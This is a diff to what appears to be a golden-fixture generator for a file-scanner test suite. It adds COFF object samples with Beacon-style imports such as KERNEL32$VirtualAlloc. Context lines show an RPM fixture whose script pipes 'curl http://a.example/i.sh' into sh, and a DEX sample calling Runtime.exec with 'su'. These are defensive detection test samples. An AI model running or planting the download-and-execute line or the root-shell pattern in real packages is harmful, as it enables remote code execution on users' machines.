@@ -2,6 +2,7 @@
 import { writeApk } from '../android/write-apk.ts'
 import { writeDex } from '../android/write-dex.ts'
 import { writeRpm } from '../archives/write-rpm.ts'
+import { buildCoff, buildImportObject } from '../coff/build-coff.ts'
 import { containers } from '../containers.ts'
 import { buildDotnet } from '../dotnet/build-dotnet.ts'
 import { eicarCarriers } from '../eicar-carriers.ts'
@@ -66,7 +67,11 @@ const code = writeDex({
   'com/example/Main': { onCreate: { calls: ['java/lang/Runtime.exec', 'com/example/b.run'], texts: ['su'] } },
   'com/example/b': { run: { texts: ['id'] } },
 })
+const object = { symbols: [{ name: 'go', section: 1 }, { name: '__imp_KERNEL32$VirtualAlloc' }, { name: 'memcpy' }] }
 const others: readonly Golden[] = [
+  { name: 'object.obj', bytes: buildCoff(object) },
+  { name: 'object-of-many-sections.obj', bytes: buildCoff({ ...object, isBig: true }) },
+  { name: 'import.obj', bytes: buildImportObject('CreateFileW', 'KERNEL32.dll') },
   { name: 'scripts.rpm', bytes: writeRpm('#!/bin/sh\ncurl -fsS http://a.example/i.sh | sh\n') },
   { name: 'classes.dex', bytes: code },
   {
